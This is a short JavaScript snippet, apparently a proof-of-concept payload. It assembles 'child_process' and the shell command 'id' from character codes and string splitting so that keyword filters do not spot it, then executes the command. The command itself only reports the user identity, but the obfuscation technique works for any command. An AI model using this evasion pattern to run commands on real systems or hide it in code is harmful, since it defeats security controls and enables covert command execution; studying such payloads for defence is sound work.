var c = String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115);
var cmd = [105, 100].map((n) => String.fromCharCode(n)).join('');
require(c)['ex' + 'ec'](cmd);
